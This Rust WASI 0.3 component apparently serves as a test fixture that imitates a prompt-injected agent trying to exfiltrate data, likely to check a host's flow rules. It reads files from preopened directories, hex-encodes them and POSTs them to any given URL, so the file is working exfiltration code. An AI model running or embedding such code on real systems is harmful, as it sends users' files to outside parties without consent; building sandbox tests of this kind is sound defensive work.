//! `exfil.rs`'s steps for WASI 0.3 (the `wasip3` bindings): reads files
//! through `wasi:filesystem@0.3.0`'s read streams and sends what it read
//! through `wasi:http/client@0.3.0`, the way an injected agent built for
//! 0.3 would. Arguments are steps, done in order:
//!
//! - `read:PATH`: read a file (through the preopen PATH is under);
//! - `post:URL`: POST the hex of everything read so far (`http://...`);
//! - `write:PATH`: write it to a file;
//! - `print`: print it as it is (`held: ...`).
//!
//! Says on stderr what became of each step.

#![no_main]

use std::io::Write;
use wasip3::filesystem::types::{Descriptor, DescriptorFlags, ErrorCode, OpenFlags, PathFlags};
use wasip3::http::types::{Fields, Method, Request, Scheme};
use wasip3::{wit_future, wit_stream};

wasip3::cli::command::export!(P3Exfil);

struct P3Exfil;

impl wasip3::exports::cli::run::Guest for P3Exfil {
    async fn run() -> Result<(), ()> {
        let mut held: Vec<u8> = Vec::new();
        for step in wasip3::cli::environment::get_arguments().iter().skip(1) {
            let (verb, arg) = step.split_once(':').unwrap_or((step.as_str(), ""));
            let said = match verb {
                "read" => match read(arg).await {
                    Ok(b) => {
                        held.extend_from_slice(&b);
                        format!("read {arg}: {} bytes", b.len())
                    }
                    Err(e) => format!("read {arg}: error {e}"),
                },
                "post" => match post(arg, hex(&held).into_bytes()).await {
                    Ok(status) => format!("post {arg}: HTTP {status}"),
                    Err(e) => format!("post {arg}: error {e}"),
                },
                "write" => match write(arg, hex(&held).into_bytes()).await {
                    Ok(()) => format!("write {arg}: ok"),
                    Err(e) => format!("write {arg}: error {e}"),
                },
                "print" => {
                    let mut out = std::io::stdout();
                    match writeln!(out, "held: {}", String::from_utf8_lossy(&held))
                        .and_then(|()| out.flush())
                    {
                        Ok(()) => "print: ok".to_string(),
                        Err(e) => format!("print: error {e}"),
                    }
                }
                other => format!("{other}: unknown step"),
            };
            // Never a panic when the flow rules refuse the stream.
            let _ = writeln!(std::io::stderr(), "{said}");
        }
        Ok(())
    }
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|b| format!("{b:02x}")).collect()
}

/// The preopen `path` is under (the longest that holds it), and the rest
/// of the path below it.
fn under(path: &str) -> Option<(Descriptor, String)> {
    wasip3::filesystem::preopens::get_directories()
        .into_iter()
        .filter_map(|(d, p)| {
            let root = p.trim_end_matches('/').to_string();
            let rest = path.strip_prefix(&root)?.strip_prefix('/')?.to_string();
            Some((root.len(), d, rest))
        })
        .max_by_key(|(len, _, _)| *len)
        .map(|(_, d, rest)| (d, rest))
}

async fn read(path: &str) -> Result<Vec<u8>, String> {
    let (dir, rest) = under(path).ok_or("no preopen holds it")?;
    let file = dir
        .open_at(
            PathFlags::empty(),
            rest,
            OpenFlags::empty(),
            DescriptorFlags::READ,
        )
        .await
        .map_err(|e| format!("{e:?}"))?;
    let (data, done) = file.read_via_stream(0);
    let bytes = data.collect().await;
    done.await.map_err(|e| format!("{e:?}"))?;
    Ok(bytes)
}

async fn write(path: &str, bytes: Vec<u8>) -> Result<(), String> {
    let (dir, rest) = under(path).ok_or("no preopen holds it")?;
    let file = dir
        .open_at(
            PathFlags::empty(),
            rest,
            OpenFlags::CREATE | OpenFlags::TRUNCATE,
            DescriptorFlags::WRITE,
        )
        .await
        .map_err(|e| format!("{e:?}"))?;
    let (mut tx, rx) = wit_stream::new();
    let done = file.write_via_stream(rx, 0);
    let left = tx.write_all(bytes).await;
    drop(tx);
    done.await.map_err(|e: ErrorCode| format!("{e:?}"))?;
    if !left.is_empty() {
        return Err("not all of it was taken".into());
    }
    Ok(())
}

/// A POST of `body` to `url` (`http://AUTHORITY/PATH`); its status.
async fn post(url: &str, body: Vec<u8>) -> Result<u16, String> {
    let rest = url.strip_prefix("http://").ok_or("not an http:// URL")?;
    let (authority, path) = match rest.find('/') {
        Some(i) => rest.split_at(i),
        None => (rest, "/"),
    };
    let (trailers_tx, trailers) = wit_future::new(|| Ok(None));
    drop(trailers_tx);
    let (mut tx, rx) = wit_stream::new();
    let (request, _sent) = Request::new(Fields::new(), Some(rx), trailers, None);
    let set = [
        request.set_method(&Method::Post),
        request.set_scheme(Some(&Scheme::Http)),
        request.set_authority(Some(authority)),
        request.set_path_with_query(Some(path)),
    ];
    if set.iter().any(Result::is_err) {
        return Err("the request was refused".into());
    }
    // The body is written while the host waits for it whole.
    wasip3::spawn_local(async move {
        let _ = tx.write_all(body).await;
    });
    let response = wasip3::http::client::send(request)
        .await
        .map_err(|e| format!("{e:?}"))?;
    Ok(response.get_status_code())
}
